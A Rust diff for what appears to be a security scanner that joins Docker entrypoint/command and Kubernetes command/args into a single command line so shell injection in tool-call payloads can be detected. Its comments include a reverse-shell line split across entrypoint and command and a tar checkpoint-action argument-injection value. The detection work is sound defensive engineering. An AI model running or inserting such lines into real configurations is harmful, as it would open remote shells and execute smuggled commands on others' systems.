@@ -1536,11 +1536,87 @@ impl<'i> Run<'i> {
         }
     }
 
+    /// A container's command line given in two parts: Docker's
+    /// `entrypoint` then `command` (`{"entrypoint": ["bash", "-i"],
+    /// "command": [">&", "/dev/tcp/10.0.0.5/4444", "0>&1"]}`), Kubernetes'
+    /// `command` then `args`. The image runs the first followed by the
+    /// second; each part alone reads as nothing, so the line they make is
+    /// analyzed. (A program given as one word with `args` beside it is
+    /// joined by [`Run::argv`] already.)
+    fn container_command(&mut self, nodes: &[Node<'_>], strings: &[Scanned<'_>], prefix: &str, chain: &[Decoding]) {
+        const ENTRY: &[&str] = &["entrypoint", "entry_point"];
+        let named = |i: Option<usize>, names: &[&str]| key_at(nodes, i).is_some_and(|k| names.iter().any(|n| k.eq_ignore_ascii_case(n)));
+        let parent = |i: Option<usize>| i.and_then(|i| nodes.get(i)).and_then(|n| n.parent);
+        // The members of array `array`, in order.
+        let members = |array: usize| -> Vec<&str> {
+            strings
+                .iter()
+                .filter(|s| {
+                    !s.is_key
+                        && s.node.and_then(|i| nodes.get(i)).is_some_and(|n| matches!(n.token, Token::Index(_)) && n.parent == Some(array))
+                })
+                .map(|s| s.text.as_ref())
+                .take(256)
+                .collect()
+        };
+        // The first parts: an entrypoint (a word or an array), a command
+        // array; each with whether it is an entrypoint and an array.
+        let mut firsts: Vec<(usize, Vec<&str>, bool, bool)> = Vec::new();
+        for s in strings.iter().filter(|s| !s.is_key) {
+            let Some(node) = s.node else { continue };
+            let array = nodes.get(node).filter(|n| matches!(n.token, Token::Index(_))).and_then(|n| n.parent);
+            match array {
+                Some(a) if (named(Some(a), ENTRY) || named(Some(a), &["command"])) && !firsts.iter().any(|(f, ..)| *f == a) => {
+                    firsts.push((a, members(a), named(Some(a), ENTRY), true));
+                }
+                None if named(Some(node), ENTRY) && !s.text.contains(char::is_whitespace) => {
+                    firsts.push((node, vec![s.text.as_ref()], true, false))
+                }
+                _ => {}
+            }
+            if firsts.len() >= 8 {
+                break;
+            }
+        }
+        for (first, words, entry, is_array) in firsts {
+            let object = parent(Some(first));
+            // What follows an entrypoint: `command` (`cmd`), or `args`
+            // when the entrypoint is an array (a word with `args` is
+            // [`Run::argv`]'s); what follows a command array: `args`.
+            let seconds: &[&str] = match (entry, is_array) {
+                (true, true) => &["command", "cmd", "args"],
+                (true, false) => &["command", "cmd"],
+                (false, _) => &["args"],
+            };
+            let mut second: Vec<usize> = strings
+                .iter()
+                .filter_map(|s| {
+                    let n = nodes.get(s.node?)?;
+                    let a = n.parent?;
+                    (!s.is_key && matches!(n.token, Token::Index(_)) && a != first && named(Some(a), seconds) && parent(Some(a)) == object)
+                        .then_some(a)
+                })
+                .collect();
+            second.dedup();
+            let Some(&second) = second.first() else { continue };
+            // (Said once: a member that is a command line of its own, `sh
+            // -c`'s script, was judged where it is.)
+            let member = format!("{prefix}{}/", pointer(nodes, Some(second)));
+            if self.hits.iter().any(|h| h.family == Family::ShellInjection && h.pointer.starts_with(&member)) {
+                continue;
+            }
+            let Ok(line) = shlex::try_join(words.iter().copied().chain(members(second))) else { continue };
+            let mut at = String::from(prefix);
+            at.push_str(&pointer(nodes, object));
+            self.command_line(&line, &at, chain);
+        }
+    }
+
     /// An exec-style call gives the program and its arguments apart
     /// (`{"command": "tar", "args": ["--checkpoint-action=exec=sh x"]}`):
     /// the command line they make is what runs, and is analyzed as one.
     fn argv(&mut self, nodes: &[Node<'_>], strings: &[Scanned<'_>], prefix: &str, chain: &[Decoding]) {
-        const PROGRAM: &[&str] = &["command", "cmd", "program", "executable", "binary", "bin", "exe", "entrypoint"];
+        const PROGRAM: &[&str] = &["command", "cmd", "program", "executable", "binary", "bin", "exe", "entrypoint", "entry_point"];
         const ARGS: &[&str] = &["args", "argv", "arguments", "extra_args", "options", "flags", "params"];
         // Whether node `i` is a member whose key is one of `names` (no
         // allocation: this runs for every string of every payload).
@@ -1612,9 +1688,13 @@ impl<'i> Run<'i> {
             }
             self.command_line(&line, &at, chain);
         }
+        self.container_command(nodes, strings, prefix, chain);
         let wrapped = wrapped_program(&self.tool);
         // An argument array beside no program, for a tool that wraps one
         // (`pip.install` with `"extra_args": ["--index-url", "http://..."]`).
+        // (A command line beside it is what runs after: `ssh.exec`'s remote
+        // `command` beside its `ssh_options`; the options are the wrapped
+        // program's.)
         if let Some(program) = wrapped {
             let mut arrays: Vec<usize> = strings
                 .iter()
@@ -1626,10 +1706,12 @@ impl<'i> Run<'i> {
             arrays.dedup();
             for array in arrays.into_iter().take(8) {
                 let object = nodes.get(array).and_then(|n| n.parent);
-                if strings
-                    .iter()
-                    .any(|s| !s.is_key && named(s.node, PROGRAM) && s.node.and_then(|i| nodes.get(i)).and_then(|n| n.parent) == object)
-                {
+                if strings.iter().any(|s| {
+                    !s.is_key
+                        && named(s.node, PROGRAM)
+                        && !s.text.contains(char::is_whitespace)
+                        && s.node.and_then(|i| nodes.get(i)).and_then(|n| n.parent) == object
+                }) {
                     continue;
                 }
                 let args: Vec<&str> = strings
